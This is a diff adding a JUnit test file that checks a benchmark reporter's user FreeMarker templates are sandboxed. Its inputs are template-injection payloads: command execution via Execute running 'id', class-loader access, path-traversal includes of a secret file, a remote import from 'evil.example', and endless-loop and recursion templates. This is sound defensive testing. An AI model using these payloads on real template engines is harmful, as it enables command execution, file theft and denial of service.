@@ -1,0 +1,77 @@
+package io.github.gobenchreporter.report;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertThrows;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import io.github.gobenchreporter.ReporterException;
+import io.github.gobenchreporter.report.markdown.Place;
+import io.github.gobenchreporter.report.markdown.ReportMarkdown;
+import java.io.IOException;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.time.Duration;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+class UserTemplatesTest {
+  @TempDir private Path folder;
+
+  @Test
+  void aTemplateOfTheUsersTakesThePlaceOfOurs() throws IOException {
+    template("${icon} ${verdict} <#list regressions as t>${t.rows?size}</#list> ${\"<@x|\"}\n");
+    assertEquals(
+        "🔴 1 regression in 2 benchmarks on Apple M3 Max 2 &lt;＠x&#124;\n",
+        ReportMarkdown.render(Reports.oneChip(), Place.FILE, folder));
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
+        "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.io.File\", \"x\")}",
+        "${verdict?api.class}",
+        "${.data_model.class}",
+        "${settle.class.classLoader}",
+        "${regressions[0].getClass()}",
+        "${regressions[0].class.protectionDomain}",
+        "${icon.getBytes()}",
+        "<#include \"../secret.txt\">",
+        "<#include \"/../secret.txt\">",
+        "<#import \"http://evil.example/x.ftl\" as x>",
+        "${nothing}",
+        "<#list",
+      })
+  void whatATemplateHasNoBusinessWithIsRefusedInOneLine(String text) throws IOException {
+    Files.writeString(folder.resolveSibling("secret.txt"), "secret");
+    template(text);
+    ReporterException e =
+        assertThrows(
+            ReporterException.class,
+            () -> ReportMarkdown.render(Reports.oneChip(), Place.FILE, folder));
+    assertEquals(1, e.getMessage().lines().count());
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "<#list 1..2000000000 as i></#list>",
+        "<#list 1..2000000000 as i>xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx</#list>",
+        "<#macro m><@m/></#macro><@m/>",
+      })
+  void aTemplateWithoutEndIsStopped(String text) throws IOException {
+    template(text);
+    Templates templates = UserTemplates.of(folder, Duration.ofSeconds(2));
+    long start = System.nanoTime();
+    assertThrows(
+        ReporterException.class,
+        () -> ReportMarkdown.render(Reports.oneChip(), Place.FILE, templates));
+    assertTrue(System.nanoTime() - start < 10_000_000_000L);
+  }
+
+  private void template(String text) throws IOException {
+    Files.writeString(folder.resolve("report.md.ftl"), text);
+  }
+}
